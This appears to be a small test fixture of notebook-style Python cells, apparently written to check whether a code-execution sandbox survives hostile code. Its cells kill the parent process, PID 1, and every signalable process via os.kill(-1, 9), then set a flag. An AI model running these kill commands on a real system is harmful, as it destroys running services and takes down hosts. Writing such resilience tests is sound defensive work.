import os
import signal
for target in (os.getppid(), 1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
# %%
import os
os.kill(-1, 9)
# %%
after_the_kills = True
